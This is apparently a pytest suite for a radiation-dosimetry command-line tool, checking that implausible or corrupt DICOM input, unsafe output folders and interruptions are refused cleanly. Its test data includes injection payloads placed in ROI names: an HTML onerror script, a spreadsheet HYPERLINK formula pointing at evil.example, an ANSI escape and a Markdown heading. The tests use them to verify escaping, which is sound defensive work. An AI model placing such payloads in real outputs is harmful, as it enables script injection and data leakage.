"""End-to-end bad-input suite through the command line (issue #15, sections 1-6).

Every class of the issue is generated from the phantom's DICOM (one small PET/CT/RTSTRUCT
study per session, ``conftest.pet_ct_master``; a fresh copy mutated with pydicom per case)
and fed to ``dosimetry plan``: through the real console process for a few cases
(``python -m dosimetry.cli``), through :func:`dosimetry.cli.main` for the rest. For each
case: the exit status (2 for a user or input error), exactly one error line that names the
problem (tag, file or option, and the override where there is one), no traceback, no output
folder created (or the previous complete set untouched) and the input files unchanged.

Runs that must compute a dose use ``--method led``; the tests of writing and interruption
reuse the result of one valid run instead of recomputing it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import warnings
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from pydicom.dataset import Dataset

import dosimetry.io
from dosimetry.cli import EXIT_INTERRUPTED, EXIT_OK, EXIT_USER, main
from dosimetry.io import outputs
from dosimetry.io.outputs import MANIFEST, OutputSet, is_complete, read_manifest

from .conftest import copy_study, relocated, rewrite, tree_hashes

ROOT = Path(__file__).resolve().parents[2]


def _ignores_permissions() -> bool:
    """True where a read-only folder is writable anyway (root, CAP_DAC_OVERRIDE)."""
    probe = Path(tempfile.mkdtemp())
    try:
        probe.chmod(0o555)
        return os.access(probe, os.W_OK)
    finally:
        probe.chmod(0o755)
        probe.rmdir()


IGNORES_PERMISSIONS = _ignores_permissions()


# ----------------------------------------------------------------------------- helpers
@dataclass
class Outcome:
    """What one command-line run gave."""

    rc: int
    out: str
    err: str

    @property
    def error_lines(self) -> list[str]:
        return [line for line in self.err.splitlines() if line.startswith("dosimetry: ")]


@dataclass
class Case:
    """A fresh copy of the master study, to be mutated."""

    folder: Path
    pet: list[Path]  # ascending z
    rtstruct: Path
    truth: Any

    def pet_tags(
        self, change: Callable[[Dataset], None], which: Sequence[int] | None = None
    ) -> None:
        for p in self.pet if which is None else [self.pet[i] for i in which]:
            rewrite(p, change)


def plan_args(study: Path, out: Path, *extra: str, activity: str | None = "7.4 GBq") -> list[str]:
    args = ["plan", str(study), "--out", str(out), "--method", "led"]
    if activity is not None:
        args += ["--activity", activity]
    return [*args, *extra]


def run_main(capsys: pytest.CaptureFixture[str], argv: list[str]) -> Outcome:
    rc = main(argv)
    cap = capsys.readouterr()
    return Outcome(rc, cap.out, cap.err)


def run_process(argv: list[str], timeout: float = 300.0) -> Outcome:
    """The real console command in its own process (a hang fails the test instead of
    stalling CI)."""
    r = subprocess.run(
        [sys.executable, "-m", "dosimetry.cli", *argv],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        cwd=ROOT,
    )
    return Outcome(r.returncode, r.stdout, r.stderr)


def assert_refused(
    res: Outcome,
    *needles: str,
    out: Path | None = None,
    study: Case | None = None,
    before: dict[str, str] | None = None,
    previous: dict[str, str] | None = None,
) -> str:
    """Exit 2, one error line holding every needle, no traceback, nothing written, input
    unchanged; returns the error line."""
    assert "Traceback" not in res.err, res.err
    assert res.rc == EXIT_USER, (res.rc, res.err)
    lines = res.error_lines
    assert len(lines) == 1, lines
    line = lines[0]
    assert line.startswith("dosimetry: error: "), line
    assert "\n" not in line and "\x1b" not in line
    for needle in needles:
        assert needle in line, f"{needle!r} not in: {line}"
    if out is not None:
        if previous is None:
            assert not out.exists() and not os.path.lexists(out), f"{out} was created"
        else:
            assert tree_hashes(out) == previous, "the previous output set was changed"
        leftovers = [p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")]
        assert leftovers == [], leftovers
    if study is not None and before is not None:
        assert tree_hashes(study.folder) == before, "an input file was changed"
    return line


def set_injection(case: Case, when: dt.datetime) -> None:
    """Move the injection (RadiopharmaceuticalStartDateTime and -Time) in every PET file."""

    def change(d: Dataset) -> None:
        item = d.RadiopharmaceuticalInformationSequence[0]
        item.RadiopharmaceuticalStartDateTime = when.strftime("%Y%m%d%H%M%S.%f")
        item.RadiopharmaceuticalStartTime = when.strftime("%H%M%S.%f")

    case.pet_tags(change)


def shift_injection(days: float = 0.0, minutes: float = 0.0) -> Callable[[Case], None]:
    def mutate(case: Case) -> None:
        set_injection(
            case, case.truth.injection_datetime + dt.timedelta(days=days, minutes=minutes)
        )

    return mutate


@pytest.fixture
def make_case(tmp_path: Path, pet_ct_master: Any) -> Callable[..., Case]:
    """``make_case(mutate=None)``: a copy of the master study, mutated."""

    def make(mutate: Callable[[Case], None] | None = None, name: str = "study") -> Case:
        folder, _ = copy_study(pet_ct_master, tmp_path / name)
        case = Case(
            folder,
            relocated(pet_ct_master.pet_paths, pet_ct_master, folder),
            relocated([pet_ct_master.rtstruct_path], pet_ct_master, folder)[0],
            pet_ct_master,
        )
        if mutate is not None:
            mutate(case)
        return case

    return make


@pytest.fixture
def no_compute(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the run if DICOM is read: the output folder must be refused before computing."""

    def refuse(*a: Any, **k: Any) -> None:
        raise AssertionError("the study was read before the output folder was checked")

    monkeypatch.setattr(dosimetry.io, "load_study", refuse)


@dataclass
class Baseline:
    out: Path  # a complete output set of a valid run
    result: Any  # its WorkflowResult
    hashes: dict[str, str]


@pytest.fixture(scope="module")
def baseline(pet_ct_master: Any, tmp_path_factory: pytest.TempPathFactory) -> Baseline:
    """The positive control: the unmutated study plans with exit 0 and a complete set."""
    from dosimetry.workflows import pet_plan

    captured: dict[str, Any] = {}
    real = pet_plan.run

    def spy(*a: Any, **k: Any) -> Any:
        captured["result"] = real(*a, **k)
        return captured["result"]

    out = tmp_path_factory.mktemp("baseline") / "out"
    mp = pytest.MonkeyPatch()
    mp.setattr(pet_plan, "run", spy)
    try:
        rc = main(plan_args(pet_ct_master.folder, out))
    finally:
        mp.undo()
    assert rc == EXIT_OK
    assert is_complete(out, verify_hashes=True)
    return Baseline(out, captured["result"], tree_hashes(out))


@pytest.fixture
def cached_result(monkeypatch: pytest.MonkeyPatch, baseline: Baseline) -> None:
    """``plan`` returns the baseline's result at once (tests of writing, not computing)."""
    from dosimetry.workflows import pet_plan

    monkeypatch.setattr(pet_plan, "run", lambda *a, **k: baseline.result)


def previous_set(baseline: Baseline, dest: Path) -> dict[str, str]:
    """A copy of the baseline's complete output set at ``dest``; returns its hashes."""
    shutil.copytree(baseline.out, dest)
    assert is_complete(dest, verify_hashes=True)
    return tree_hashes(dest)


# ------------------------------------------------------------------- 1. plausibility
def _zero_pixels(d: Dataset) -> None:
    d.PixelData = np.zeros_like(d.pixel_array).tobytes()


def _slope(value: str | None) -> Callable[[Dataset], None]:
    def change(d: Dataset) -> None:
        if value is None:
            del d.RescaleSlope
        else:
            d.RescaleSlope = value

    return change


def _units_gml(d: Dataset) -> None:
    d.Units = "GML"


PET_CASES: dict[str, tuple[Callable[[Case], None], tuple[str, ...]]] = {
    # uptake time: the date typos of the issue, a time a fraction of a second before the
    # scan, and an injection after the scan
    "injection-one-day-early": (
        shift_injection(days=-1),
        ("uptake time", "1500 min", "Ga-68-PSMA-11", "--injection", "--accept uptake_time"),
    ),
    "injection-ten-days-early": (
        shift_injection(days=-10),
        ("uptake time", "1.446e+04 min", "--accept uptake_time"),
    ),
    "injection-0.1s-before-scan": (
        lambda c: set_injection(c, c.truth.acquisition_datetime - dt.timedelta(seconds=0.1)),
        ("uptake time", "0.001667 min", "--accept uptake_time"),
    ),
    "injection-after-scan": (
        shift_injection(minutes=120),
        ("uptake time", "-60 min", "--accept uptake_time"),
    ),
    # activity in the field of view against the injected activity
    "rescale-slope-1e30": (
        lambda c: c.pet_tags(_slope("1e30")),
        ("fraction of the injected activity", "RescaleSlope", "--accept fraction_in_fov"),
    ),
    "rescale-slope-1e30-one-slice": (
        lambda c: c.pet_tags(_slope("1e30"), [5]),
        ("fraction of the injected activity", "RescaleSlope", "--accept fraction_in_fov"),
    ),
    "rescale-slope-1e-30": (
        lambda c: c.pet_tags(_slope("1e-30")),
        ("fraction of the injected activity", "RescaleSlope", "--accept fraction_in_fov"),
    ),
    "units-gml-on-bqml": (
        lambda c: c.pet_tags(_units_gml),
        ("fraction of the injected activity", "units", "--accept fraction_in_fov"),
    ),
    "all-zero-pet": (
        lambda c: c.pet_tags(_zero_pixels),
        ("holds no activity", "--accept no_activity"),
    ),
}


@pytest.mark.parametrize("name", list(PET_CASES))
def test_implausible_pet_is_refused(name, make_case, capsys, tmp_path):
    mutate, needles = PET_CASES[name]
    case = make_case(mutate)
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(res, *needles, out=out, study=case, before=before)


def test_units_gml_accepting_the_fraction_still_meets_the_suv_guard(make_case, capsys, tmp_path):
    """SUV ~ 1e4: the SUV range is the second guard of a unit error."""
    case = make_case(lambda c: c.pet_tags(_units_gml))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out, "--accept", "fraction_in_fov"))
    line = assert_refused(res, "SUV", "Units (0054,1001)", "--accept suv_max", out=out)
    assert "4.23e+04" in line  # the value is shown
    assert tree_hashes(case.folder) == before


def test_strict_turns_a_warning_into_a_refusal(make_case, capsys, tmp_path):
    """An uptake time of 110 min (usual 50-100 min for 68Ga-PSMA-11) is a warning; --strict
    refuses it."""
    case = make_case(shift_injection(minutes=-50))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out, "--strict"))
    assert_refused(
        res,
        "uptake time",
        "110 min",
        "outside the usual 50-100 min",
        out=out,
        study=case,
        before=before,
    )


@pytest.mark.parametrize(
    ("activity", "needles"),
    [
        ("1e30 GBq", ("administered Lu-177 activity", "--activity", "--accept administered")),
        ("1e12 kBq", ("administered Lu-177 activity", "1e+03 TBq", "--accept administered")),
        ("8 mBq", ("administered Lu-177 activity", "0.008 Bq", "--accept administered")),
        ("200 MCi", ("--activity", "'MCi'", "case-sensitive", "mCi")),
        ("7400", ("--activity", "<number> <unit>")),
        ("-7.4 GBq", ("--activity", "positive")),
        ("nan GBq", ("--activity", "<number> <unit>")),
    ],
)
def test_activity_is_refused(activity, needles, make_case, capsys, tmp_path):
    case = make_case()
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out, activity=activity))
    assert_refused(res, *needles, out=out, study=case, before=before)


def test_injected_activity_override_spelling_is_refused(make_case, capsys, tmp_path):
    case = make_case()
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out, "--injected-activity", "150 mbq"))
    assert_refused(
        res, "--injected-activity", "'mbq'", "mBq or MBq", out=out, study=case, before=before
    )


# ---------------------------------------------------------------------- 2. headers
def _decay_none_decy(d: Dataset) -> None:
    d.DecayCorrection = "NONE"
    d.DecayFactor = "1.052"


def _decay_none_factor(d: Dataset) -> None:
    _decay_none_decy(d)
    d.CorrectedImage = [c for c in d.CorrectedImage if c != "DECY"]


def _truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _rows_columns(d: Dataset) -> None:
    d.Rows = d.Columns = 65535


HEADER_CASES: dict[str, tuple[Callable[[Case], None], Callable[[Case], tuple[str, ...]]]] = {
    "rescale-slope-0": (
        lambda c: c.pet_tags(_slope("0"), [4]),
        lambda c: ("RescaleSlope", "not a usable slope", c.pet[4].name),
    ),
    "rescale-slope-1e-310": (
        lambda c: c.pet_tags(_slope("1e-310"), [4]),
        lambda c: ("RescaleSlope", "1e-310", "denormal", c.pet[4].name),
    ),
    "rescale-slope-missing-one-slice": (
        lambda c: c.pet_tags(_slope(None), [9]),
        lambda c: ("RescaleSlope is missing", "Type 1", c.pet[9].name),
    ),
    "decay-none-factor-1.052-decy": (
        lambda c: c.pet_tags(_decay_none_decy),
        lambda c: ("DecayCorrection is NONE", "CorrectedImage", "DECY", "decay_correction="),
    ),
    "decay-none-factor-1.052": (
        lambda c: c.pet_tags(_decay_none_factor),
        lambda c: ("DecayCorrection is NONE", "DecayFactor is 1.052"),
    ),
    "first-slice-missing": (
        lambda c: c.pet[0].unlink(),
        lambda c: ("incomplete", "NumberOfSlices (0054,0081) is 26", "1 missing slice"),
    ),
    "last-slice-missing": (
        lambda c: c.pet[-1].unlink(),
        lambda c: ("incomplete", "NumberOfSlices (0054,0081) is 26", "1 missing slice"),
    ),
    "truncated-pet-file": (
        lambda c: _truncate(c.pet[12]),
        lambda c: ("incomplete", "truncated", c.pet[12].name),
    ),
    "rows-columns-65535": (
        lambda c: c.pet_tags(_rows_columns),
        lambda c: ("65535",),
    ),
    "pixel-spacing-1e-6": (
        lambda c: c.pet_tags(lambda d: setattr(d, "PixelSpacing", [1e-6, 1e-6])),
        lambda c: ("PixelSpacing", "not a real voxel size"),
    ),
}


@pytest.mark.parametrize("name", list(HEADER_CASES))
def test_contradictory_or_incomplete_header_is_refused(name, make_case, capsys, tmp_path):
    mutate, needles = HEADER_CASES[name]
    case = make_case(mutate)
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(res, *needles(case), out=out, study=case, before=before)


def test_header_override_from_the_command_line(make_case, capsys, tmp_path):
    """A refusal that names a reader override names the command-line form (``--header
    KEY=VALUE``), and that form does what the message says: a series missing its last
    slice loads with ``--header allow_incomplete=yes``, the report says so, the input is
    unchanged."""
    case = make_case(lambda c: c.pet[-1].unlink())
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(res, "--header allow_incomplete=VALUE", out=out, study=case, before=before)
    res = run_main(
        capsys,
        plan_args(case.folder, out, "--header", "allow_incomplete=yes", "--accept-implausible"),
    )
    assert res.rc == EXIT_OK, res.err
    assert tree_hashes(case.folder) == before
    report = (out / "report.md").read_text(encoding="utf-8")
    assert "allow\\_incomplete=True" in report  # Markdown-escaped underscore
    # an unknown key or a bad value is refused naming the valid keys / the value
    res = run_main(capsys, plan_args(case.folder, tmp_path / "o2", "--header", "decay=START"))
    assert_refused(res, "--header", "decay_correction", out=tmp_path / "o2")
    res = run_main(
        capsys, plan_args(case.folder, tmp_path / "o3", "--header", "patient_weight_kg=heavy")
    )
    assert_refused(res, "'heavy'", "not a number", out=tmp_path / "o3")


def test_truncated_rtstruct_is_refused_and_named(make_case, capsys, caplog, tmp_path):
    case = make_case(lambda c: _truncate(c.rtstruct))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(
        res,
        "no RTSTRUCT",
        "1 file(s) skipped",
        case.rtstruct.name,
        "truncated",
        out=out,
        study=case,
        before=before,
    )
    # the file and the reason are named in the warning just above the error line
    assert any(
        case.rtstruct.name in r.getMessage() and "truncated" in r.getMessage()
        for r in caplog.records
    )


def test_contour_with_nan_is_refused(make_case, capsys, tmp_path):
    def mutate(case: Case) -> None:
        def change(d: Dataset) -> None:
            contour = d.ROIContourSequence[7].ContourSequence[0]
            values = list(contour.ContourData)
            values[1] = "nan"
            contour.ContourData = values

        with warnings.catch_warnings():  # pydicom warns of the invalid DS we write on purpose
            warnings.simplefilter("ignore", UserWarning)
            rewrite(case.rtstruct, change)

    case = make_case(mutate)
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(
        res, "ContourData", "NaN", case.rtstruct.name, out=out, study=case, before=before
    )


# --------------------------------------------------------------- 3. output location
def test_out_is_a_file(make_case, capsys, tmp_path, no_compute):
    case = make_case()
    f = tmp_path / "result.txt"
    f.write_text("mine")
    res = run_main(capsys, plan_args(case.folder, f))
    assert_refused(res, "--out", "is a file")
    assert f.read_text() == "mine"


def test_out_under_a_file(make_case, capsys, tmp_path, no_compute):
    case = make_case()
    f = tmp_path / "result.txt"
    f.write_text("mine")
    res = run_main(capsys, plan_args(case.folder, f / "a" / "out"))
    assert_refused(res, "--out", str(f), "is a file")
    assert f.read_text() == "mine"


@pytest.mark.skipif(IGNORES_PERMISSIONS, reason="root writes into read-only folders")
def test_out_read_only(make_case, capsys, tmp_path, no_compute):
    case = make_case()
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        res = run_main(capsys, plan_args(case.folder, out))
        assert_refused(res, "--out", "not writable")
        assert list(out.iterdir()) == []
    finally:
        out.chmod(0o755)


@pytest.mark.skipif(IGNORES_PERMISSIONS, reason="root writes into read-only folders")
def test_out_parent_read_only(make_case, capsys, tmp_path, no_compute):
    case = make_case()
    parent = tmp_path / "ro"
    parent.mkdir()
    parent.chmod(0o555)
    try:
        res = run_main(capsys, plan_args(case.folder, parent / "new" / "out"))
        assert_refused(res, "--out", "not writable", str(parent))
        assert list(parent.iterdir()) == []
    finally:
        parent.chmod(0o755)


@pytest.mark.parametrize("inside", ["out", "sub/out", "."])
def test_out_inside_the_input_folder(inside, make_case, capsys, tmp_path, no_compute):
    case = make_case()
    before = tree_hashes(case.folder)
    names = sorted(p.name for p in case.folder.iterdir())
    res = run_main(capsys, plan_args(case.folder, case.folder / inside))
    assert_refused(res, "--out", "inside the input folder", study=case, before=before)
    assert sorted(p.name for p in case.folder.iterdir()) == names  # no empty folder left


def test_out_containing_the_input_with_overwrite(make_case, capsys, tmp_path, no_compute):
    """A previous set that holds the study (as demo's OUT/phantom_study): planning the
    study into it again with --overwrite would replace (delete) the input."""
    out = tmp_path / "prev"
    with OutputSet(out) as staging:
        shutil.copytree(make_case(name="source").folder, staging / "phantom_study")
        (staging / "report.md").write_text("previous")
    study = out / "phantom_study"
    previous = tree_hashes(out)
    res = run_main(capsys, plan_args(study, out, "--overwrite"))
    assert_refused(res, "--out", "contains the input folder", out=out, previous=previous)


def test_out_symlink(make_case, capsys, tmp_path, no_compute):
    case = make_case()
    target = tmp_path / "target"
    target.mkdir()
    link = tmp_path / "link"
    link.symlink_to(target, target_is_directory=True)
    res = run_main(capsys, plan_args(case.folder, link))
    assert_refused(res, "--out", "symbolic link")
    assert list(target.iterdir()) == [] and link.is_symlink()


def test_overwrite_never_deletes_a_user_file(make_case, capsys, tmp_path, baseline, no_compute):
    case = make_case()
    out = tmp_path / "out"
    previous_set(baseline, out)
    (out / "my_notes.txt").write_text("mine")
    previous = tree_hashes(out)
    res = run_main(capsys, plan_args(case.folder, out, "--overwrite"))
    assert_refused(res, "--out", "did not write", "my_notes.txt", out=out, previous=previous)


def test_existing_set_needs_overwrite(make_case, capsys, tmp_path, baseline, no_compute):
    case = make_case()
    out = tmp_path / "out"
    previous = previous_set(baseline, out)
    res = run_main(capsys, plan_args(case.folder, out))
    assert_refused(res, "--out", "not empty", "--overwrite", out=out, previous=previous)


def test_bad_input_leaves_the_previous_set_untouched(make_case, capsys, tmp_path, baseline):
    case = make_case(shift_injection(days=-1))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    previous = previous_set(baseline, out)
    res = run_main(capsys, plan_args(case.folder, out, "--overwrite"))
    assert_refused(
        res, "--accept uptake_time", out=out, previous=previous, study=case, before=before
    )


# ------------------------------------------------------------ 4. interruption, kills
@pytest.fixture
def interrupt_second_nifti(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """``write_nifti`` writes its first file, then Ctrl-C arrives (a set half written)."""
    from dosimetry.io import nifti

    real = nifti.write_nifti
    written: list[Path] = []

    def write(volume: Any, path: Any, **kw: Any) -> Any:
        if written:
            raise KeyboardInterrupt
        written.append(Path(path))
        return real(volume, path, **kw)

    monkeypatch.setattr(nifti, "write_nifti", write)
    return written


def _no_staging_left(parent: Path) -> None:
    left = [p.name for p in parent.iterdir() if ".partial-" in p.name or ".replaced-" in p.name]
    assert left == [], left


def test_ctrl_c_while_writing_keeps_the_previous_set(
    make_case, capsys, tmp_path, baseline, cached_result, interrupt_second_nifti
):
    case = make_case()
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    previous = previous_set(baseline, out)
    res = run_main(capsys, plan_args(case.folder, out, "--overwrite"))
    assert res.rc == EXIT_INTERRUPTED and "Traceback" not in res.err
    assert interrupt_second_nifti, "the interruption came before anything was written"
    assert len(res.error_lines) == 1 and "interrupted" in res.error_lines[0]
    assert tree_hashes(out) == previous
    _no_staging_left(tmp_path)
    assert tree_hashes(case.folder) == before


def test_ctrl_c_while_writing_leaves_nothing(
    make_case, capsys, tmp_path, cached_result, interrupt_second_nifti
):
    case = make_case()
    out = tmp_path / "new" / "deeper" / "out"
    res = run_main(capsys, plan_args(case.folder, out))
    assert res.rc == EXIT_INTERRUPTED and "Traceback" not in res.err
    assert interrupt_second_nifti
    assert not (tmp_path / "new").exists()  # nor the folders created for it


def test_ctrl_c_between_the_two_renames_restores_the_previous_set(tmp_path, baseline, monkeypatch):
    """The swap is two renames (old set aside, new set in); an interruption between them
    puts the previous set back."""
    out = tmp_path / "out"
    previous = previous_set(baseline, out)
    real = os.replace
    moved: list[Any] = []

    def replace(src: Any, dst: Any) -> None:
        if len(moved) == 1:  # Ctrl-C once, at the second rename
            moved.append("interrupted")
            raise KeyboardInterrupt
        real(src, dst)
        if Path(src) == out:
            moved.append(dst)

    monkeypatch.setattr(outputs.os, "replace", replace)
    outset = OutputSet(out, overwrite=True)
    staging = outset.begin()
    (staging / "dose.nii.gz").write_bytes(b"new")
    with pytest.raises(KeyboardInterrupt):
        try:
            outset.commit()
        except BaseException:
            outset.abort()
            raise
    monkeypatch.undo()
    assert moved, "the first rename did not happen"
    assert tree_hashes(out) == previous
    _no_staging_left(tmp_path)


_KILLED_WRITER = textwrap.dedent(
    """
    import os, signal, sys
    from pathlib import Path
    from dosimetry.io import outputs

    out, when = Path(sys.argv[1]), sys.argv[2]
    outset = outputs.OutputSet(out, overwrite=True)
    staging = outset.begin()
    (staging / "dose.nii.gz").write_bytes(b"half a dose map")
    if when == "writing":
        os.kill(os.getpid(), signal.SIGKILL)

    def killed(path):  # killed while the manifest's hashes are computed
        os.kill(os.getpid(), signal.SIGKILL)

    outputs._sha256 = killed
    outset.commit()
    """
)


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
@pytest.mark.parametrize("when", ["writing", "committing"])
def test_killed_process_staging_is_removed_by_the_next_run(
    when, make_case, capsys, tmp_path, baseline, monkeypatch
):
    """A real process killed while writing a set, or while hashing its manifest, leaves a
    marked staging folder; the next run beside it removes it -- a run that writes a new
    set, or one refused later for its input (which leaves the previous set)."""
    out = tmp_path / "out"
    previous = previous_set(baseline, out)
    r = subprocess.run(
        [sys.executable, "-c", _KILLED_WRITER, str(out), when],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=ROOT,
    )
    assert r.returncode == -signal.SIGKILL, r.stderr
    stale = [p for p in tmp_path.iterdir() if p.name.startswith(".out.partial-")]
    assert len(stale) == 1 and (stale[0] / "dose.nii.gz").exists()
    assert tree_hashes(out) == previous  # the kill left the previous set in place
    case = make_case()
    if when == "writing":
        from dosimetry.workflows import pet_plan

        monkeypatch.setattr(pet_plan, "run", lambda *a, **k: baseline.result)
        res = run_main(capsys, plan_args(case.folder, out, "--overwrite"))
        assert res.rc == EXIT_OK, res.err
        assert is_complete(out, verify_hashes=True)
    else:
        res = run_main(capsys, plan_args(case.folder, out, "--overwrite", activity="1e30 GBq"))
        assert_refused(res, "--accept administered_activity", out=out, previous=previous)
    _no_staging_left(tmp_path)


# ------------------------------------------------------------ diagnostic-dose command
def test_diagnostic_dose_refusal_names_options_it_has(make_case, capsys, tmp_path):
    """diagnostic-dose runs the uptake-time guard too: the options its refusal names
    (--accept, --injection) exist on that command and act."""
    case = make_case(shift_injection(days=-1))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    base = ["diagnostic-dose", str(case.folder), "--out", str(out), "--method", "led"]
    res = run_main(capsys, base)
    assert_refused(res, "uptake time", "1500 min", "--accept uptake_time", "--injection", out=out)
    # --accept uptake_time is taken; the next guard (activity found vs decayed) refuses
    res = run_main(capsys, [*base, "--accept", "uptake_time"])
    assert_refused(res, "fraction of the injected activity", "--accept fraction_in_fov", out=out)
    # --injection replaces the header's time: the scan's own minute gives an uptake < 1 min
    acq = case.truth.acquisition_datetime
    res = run_main(capsys, [*base, "--injection", acq.strftime("%Y-%m-%d %H:%M")])
    uptake_min = acq.second / 60.0 + acq.microsecond / 6e7
    assert_refused(res, "uptake time", f" {uptake_min:.4g} min", out=out, study=case, before=before)


def test_demo_refusal_names_an_option_it_has(
    pet_ct_master, capsys, tmp_path, monkeypatch, baseline
):
    """demo takes --activity, so its refusal names --accept, which demo accepts. (The
    phantom writer is replaced by a copy of the small master study to keep this quick.)"""
    import phantoms
    from dosimetry.workflows import pet_plan

    def small_phantom(folder: Any, **kw: Any) -> Any:
        shutil.copytree(pet_ct_master.folder, folder)
        return pet_ct_master

    monkeypatch.setattr(phantoms, "write_pet_ct_study", small_phantom)
    out = tmp_path / "out"
    base = ["demo", "--out", str(out), "--method", "led", "--activity", "50 GBq"]
    res = run_main(capsys, base)
    assert_refused(res, "50 GBq", "--accept administered_activity", out=out)
    seen: dict[str, Any] = {}

    def spy(*a: Any, **k: Any) -> Any:
        seen.update(k)
        return baseline.result

    monkeypatch.setattr(pet_plan, "run", spy)
    res = run_main(capsys, [*base, "--accept", "administered_activity"])
    assert res.rc == EXIT_OK, res.err
    assert seen["accept"] == ["administered_activity"]
    assert is_complete(out)


# ------------------------------------------------------------- special input files
@pytest.mark.slow
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_named_pipe_in_the_input_does_not_hang(make_case, tmp_path):
    """The real console command, on a study folder holding a FIFO: it is skipped with a
    warning that names it, and the plan completes (a hang would time out)."""
    case = make_case()
    os.mkfifo(case.folder / "pipe.dcm")
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_process(plan_args(case.folder, out), timeout=300)
    assert res.rc == EXIT_OK, res.err
    assert "Traceback" not in res.err and res.error_lines == []
    assert "pipe.dcm" in res.err and "FIFO" in res.err
    assert is_complete(out, verify_hashes=True)
    assert read_manifest(out)["status"] == "complete"
    assert tree_hashes(case.folder) == before


@pytest.mark.parametrize(
    ("name", "mutate", "activity", "needles"),
    [
        ("uptake", shift_injection(days=-1), "7.4 GBq", ("uptake time", "--accept uptake_time")),
        ("unit", None, "200 MCi", ("--activity", "'MCi'")),
    ],
)
def test_console_process_refusals(name, mutate, activity, needles, make_case, tmp_path):
    """The same refusals through the installed entry point: exit status of the process,
    one line on stderr, no traceback."""
    case = make_case(mutate)
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_process(plan_args(case.folder, out, activity=activity))
    assert_refused(res, *needles, out=out, study=case, before=before)


def test_console_process_out_is_a_file(make_case, tmp_path):
    case = make_case()
    f = tmp_path / "out.txt"
    f.write_text("mine")
    res = run_process(plan_args(case.folder, f))
    assert_refused(res, "--out", "is a file")
    assert f.read_text() == "mine"


# ---------------------------------------------------------------- 5. untrusted text
NASTY_ROIS = {
    "lesion_1": "lesion_1\n# Injected heading",
    "lesion_2": '<img src=x onerror="alert(1)">',
    "lesion_3": '=HYPERLINK("http://evil.example/?x","click")',
    "lesion_4": "\x1b[31mRED\x1b[0m $x^{2$",  # ANSI escape, and unbalanced mathtext
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.headings: list[str] = []
        self._in_heading = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_heading = tag in ("h1", "h2", "h3", "h4", "h5", "h6")

    def handle_endtag(self, tag: str) -> None:
        self._in_heading = False

    def handle_data(self, data: str) -> None:
        if self._in_heading:
            self.headings.append(data)


def _assert_inert_html(text: str) -> None:
    page = _Tags()
    page.feed(text)
    assert all(not a.lower().startswith("on") for _, attrs in page.tags for a, _ in attrs)
    assert not any(tag == "script" for tag, _ in page.tags)
    assert not any(tag == "img" and ("src", "x") in attrs for tag, attrs in page.tags)
    assert not any("Injected" in h for h in page.headings)
    assert "\x1b" not in text


def _nasty_rois(case: Case) -> None:
    def change(d: Dataset) -> None:
        for roi in d.StructureSetROISequence:
            if roi.ROIName in NASTY_ROIS:
                roi.ROIName = NASTY_ROIS[roi.ROIName]

    rewrite(case.rtstruct, change)


@pytest.mark.slow
def test_roi_names_reach_every_output_escaped(make_case, tmp_path):
    """ROI names with HTML, a Markdown heading after a newline, a spreadsheet formula, an
    ANSI escape and unbalanced mathtext: the plan completes (exit 0) and each output holds
    them inert (report.md, report.html, dose_table.csv, stdout and stderr of the console)."""
    case = make_case(_nasty_rois)
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    res = run_process(plan_args(case.folder, out))
    assert res.rc == EXIT_OK, res.err
    assert "Traceback" not in res.err
    # terminal: no escape sequence, no injected line
    for stream in (res.out, res.err):
        assert "\x1b" not in stream
        assert not any(line.lstrip().startswith("# Injected") for line in stream.splitlines())
    assert "RED" in res.out  # the name is shown, made inert
    # Markdown: no heading made of the name, no raw HTML
    md = (out / "report.md").read_text(encoding="utf-8")
    assert not any(line.lstrip().startswith("#") and "Injected" in line for line in md.splitlines())
    assert "<img" not in md and "\x1b" not in md
    try:
        import mistune
    except ImportError:  # optional: the checks above hold without a renderer
        mistune = None
    if mistune is not None:
        _assert_inert_html(mistune.html(md))  # the Markdown as a renderer reads it
    # HTML: no element or event handler from a name, no heading made of one
    _assert_inert_html((out / "report.html").read_text(encoding="utf-8"))
    # CSV: one row per VOI, no cell a formula
    rows = list(csv.DictReader(io.StringIO((out / "dose_table.csv").read_text(encoding="utf-8"))))
    names = [r[next(iter(r))] for r in rows]
